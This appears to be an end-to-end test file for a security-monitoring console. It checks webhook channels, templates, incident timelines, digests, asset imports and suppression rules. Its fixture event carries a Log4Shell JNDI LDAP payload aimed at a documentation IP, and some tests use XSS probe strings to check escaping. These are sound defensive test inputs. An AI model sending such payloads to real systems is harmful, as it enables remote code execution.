import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { openConsole } from '../support/console/open.ts';
import { receiverEnv, signingSecret } from '../support/console/set-up.ts';
import { answer, openReceiver } from '../support/notify/receiver.ts';

const attack = (n: number) => ({
  event_id: `attack-${n}`,
  timestamp: new Date().toISOString(),
  service: 'http',
  source_ip: '192.0.2.7',
  activity: 'request',
  payload: ['GET /?x=$', '{jndi:ldap://192.0.2.9/a} HTTP/1.1'].join(''),
});

describe('messages', () => {
  it('have the kinds that were chosen and words of their own, seen before they are saved', async (t) => {
    const receiver = await openReceiver(answer(200, 'ok'));
    t.after(() => receiver.close());
    const lab = await openConsole(t, { events: [], env: receiverEnv });
    await lab.send([attack(1)]);
    const page = await lab.open('/channels?new=webhook');
    const form = page.getByRole('dialog');
    await form.getByRole('textbox', { name: 'Name', exact: true }).fill('SOC');
    await form.getByLabel('Address', { exact: true }).fill(`${receiver.url}/hook`);
    await form.getByRole('button', { name: 'Generate' }).click();
    await form.getByText('Which incidents · Quiet hours').click();
    await form.getByText('The usual ones of this kind of channel').click();
    await form.getByText('Resolved', { exact: true }).click();
    await form.getByText('Words of its own · Preview').click();
    await form.getByLabel('Title', { exact: true }).fill('{{#if}}');
    await form.getByRole('button', { name: 'Preview' }).click();
    // What is wrong is said, at the field or below.
    await form.locator('[data-invalid] input, [role=alert]').first().waitFor();
    await form.getByLabel('Title', { exact: true }).fill('DECOY {{severity}}: <b>{{who}}</b>');
    await form.getByRole('button', { name: 'Preview' }).click();
    await form.getByText('DECOY CRITICAL: <b>192.0.2.7</b>').waitFor();
    await lab.check(page, { expected: /status of 422/ });
    await form.getByRole('button', { name: 'Add', exact: true }).click();
    await page.waitForURL(/\/channels\/ch-/);
    await page.getByText('Nobody acknowledged in time, Resolved').waitFor();
    const { body } = await lab.server.call<
      { events: string[]; templates: { title: string | null; text: string | null } }[]
    >('GET', '/api/channels', { headers: lab.user.headers });
    assert.deepEqual(body[0]?.events, ['opened', 'worse', 'escalated', 'resolved']);
    assert.deepEqual(body[0]?.templates, { title: 'DECOY {{severity}}: <b>{{who}}</b>', text: null });
  });

  it('stand in the story of an incident: which channel, what became of it, and why', async (t) => {
    const receiver = await openReceiver(answer(404, '<script>alert(1)</script>'));
    t.after(() => receiver.close());
    const lab = await openConsole(t, { events: [], env: receiverEnv });
    const { status } = await lab.server.call('POST', '/api/channels', {
      headers: lab.user.headers,
      body: {
        name: '<b>SOC</b>',
        channel: 'webhook',
        settings: { url: `${receiver.url}/hook`, secret: signingSecret },
      },
    });
    assert.equal(status, 200);
    await lab.send([attack(1), attack(2)]);
    const page = await lab.open('/incidents');
    await page.getByRole('grid').getByText('192.0.2.7').first().click();
    const story = page.getByRole('list', { name: 'What happened' });
    const told = story.getByRole('listitem').filter({ hasText: 'Message to “<b>SOC</b>” (opened)' });
    await told.waitFor();
    await told.getByText(/404/).waitFor();
    // What made it what it is leads, and names what was tried.
    const key = page.getByRole('region', { name: 'Key steps' });
    await key.getByText('192.0.2.7').first().waitFor();
    await page.getByRole('link', { name: /CVE-2021-44228/ }).waitFor();
    await page.getByText('an attempt to exploit it').waitFor();
    await lab.check(page);
    await key.getByRole('link').first().click();
    await page.waitForURL(/\/events\/log-/);
  });

  it('come as a digest at an hour of one’s own, seen before it is saved', async (t) => {
    const lab = await openConsole(t);
    const page = await lab.open('/digests');
    await page.getByText('No digests yet').waitFor();
    await page.getByRole('button', { name: 'Add a digest' }).click();
    const form = page.getByRole('dialog');
    await form.getByLabel('At', { exact: true }).fill('25:99');
    await form.getByRole('button', { name: 'Add', exact: true }).click();
    await form.locator('[data-invalid] input').first().waitFor();
    await form.getByLabel('At', { exact: true }).fill('07:30');
    await form.getByLabel('Time zone').fill('Europe/Berlin');
    await form.getByRole('button', { name: 'Preview' }).click();
    await form
      .getByText(/^Daily digest/)
      .first()
      .waitFor();
    await lab.check(page, { expected: /status of 422/ });
    await form.getByRole('button', { name: 'Add', exact: true }).click();
    await page.waitForURL(/\/digests\/digest-/);
    const pane = page.getByRole('region', { name: 'Digest', exact: true });
    await pane.getByText('Every day at 07:30 (Europe/Berlin)').waitFor();
    await pane
      .getByText(/^Daily digest/)
      .first()
      .waitFor();
    await pane.getByRole('button', { name: 'Switch off' }).click();
    await pane.getByText('Off', { exact: true }).waitFor();
    await lab.check(page, { expected: /status of 422/ });
    await pane.getByRole('button', { name: 'Delete' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click();
    await page.getByText('No digests yet').waitFor();
  });
});

describe('assets', () => {
  it('are read from a file, say what could not be read, and are taken away', async (t) => {
    const lab = await openConsole(t);
    const page = await lab.open('/asset-files?new=1');
    const form = page.getByRole('dialog');
    await form.getByLabel('Name').fill('office.csv');
    await form
      .getByLabel('What it says')
      .fill('network,name,owner\n10.0.3.17,<b>printer</b>,Anna\nnonsense,x,y\n');
    await form.getByRole('button', { name: 'Add', exact: true }).click();
    await page.waitForURL(/\/asset-files\/assets-/);
    const pane = page.getByRole('region', { name: 'File of assets', exact: true });
    await pane.getByText('<b>printer</b> · Anna').waitFor();
    await pane.getByText(/^Line 3/).waitFor();
    await lab.check(page);
    await pane.getByRole('button', { name: 'Delete' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click();
    await page.getByText('No assets yet').waitFor();
  });
});

describe('the settings', () => {
  it('say what the account may use, and uses', async (t) => {
    const lab = await openConsole(t);
    const page = await lab.open('/settings');
    const quotas = page.getByRole('region', { name: 'Quotas' });
    await quotas
      .getByText(/^1 of /)
      .first()
      .waitFor();
    await lab.check(page);
  });
});

describe('a wide suppression', () => {
  it('offers no rule without an end, and says why', async (t) => {
    const lab = await openConsole(t);
    const page = await lab.open('/suppressions?new=1');
    const form = page.getByRole('dialog');
    await form.getByText('such a rule ends').waitFor();
    await form.getByRole('button', { name: /For how long/ }).click();
    await page.getByRole('option', { name: '90 days' }).waitFor();
    assert.equal(await page.getByRole('option', { name: 'No end' }).count(), 0);
    await page.keyboard.press('Escape');
    await form.getByLabel('Sources').fill('203.0.113.9');
    await form.getByRole('button', { name: /Risk at most/ }).click();
    await page.getByRole('option', { name: '8', exact: true }).click();
    await form.getByText('such a rule ends').waitFor({ state: 'detached' });
    await form.getByRole('button', { name: /For how long/ }).click();
    await page.getByRole('option', { name: 'No end' }).waitFor();
  });
});
